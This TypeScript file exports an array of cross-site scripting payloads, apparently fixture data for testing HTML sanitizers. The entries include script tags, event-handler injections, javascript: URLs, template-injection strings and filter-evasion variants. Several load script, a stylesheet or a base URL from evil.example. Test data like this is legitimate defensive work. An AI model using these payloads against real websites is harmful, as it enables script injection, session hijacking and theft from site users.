const HANDLERS = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'onanimationstart', 'ontoggle', 'onpointerenter'];

/** Texts that run a script where a page takes them for HTML, for an attribute, for an address, for CSS or for code; each calls `alert`. */
export const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<script>alert`1`</script>', '</script><script>alert(1)</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script\n>alert(1)</script\n>', '<script/x>alert(1)</script>', '<svg><script>alert(1)</script></svg>',
  ...HANDLERS.map(h => `<img src=x ${h}=alert(1)>`), ...HANDLERS.map(h => `" autofocus tabindex=0 ${h}=alert(1) x="`), ...HANDLERS.map(h => `' ${h}='alert(1)`),
  '<svg onload=alert(1)>', '<svg/onload=alert(1)//', '<body onload=alert(1)>', '<input autofocus onfocus=alert(1)>', '<details open ontoggle=alert(1)>x</details>', '<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>', '<object data="javascript:alert(1)"></object>', '<embed src="javascript:alert(1)">', '<a href="javascript:alert(1)">x</a>', 'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'data:text/html,<script>alert(1)</script>', '<form action="javascript:alert(1)"><button>x</button></form>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>', '<style>@import "javascript:alert(1)";</style>', '<link rel=stylesheet href="//evil.example/x.css">', '<base href="//evil.example/">', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<template><img src=x onerror=alert(1)></template>',
  '${alert(1)}', '{{constructor.constructor("alert(1)")()}}', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '&lt;img src=x onerror=alert(1)&gt;', '<!--><img src=x onerror=alert(1)>-->', '"><img src=x onerror=alert(1)>', "'-alert(1)-'", '\u0000<img src=x onerror=alert(1)>\u202e',
];
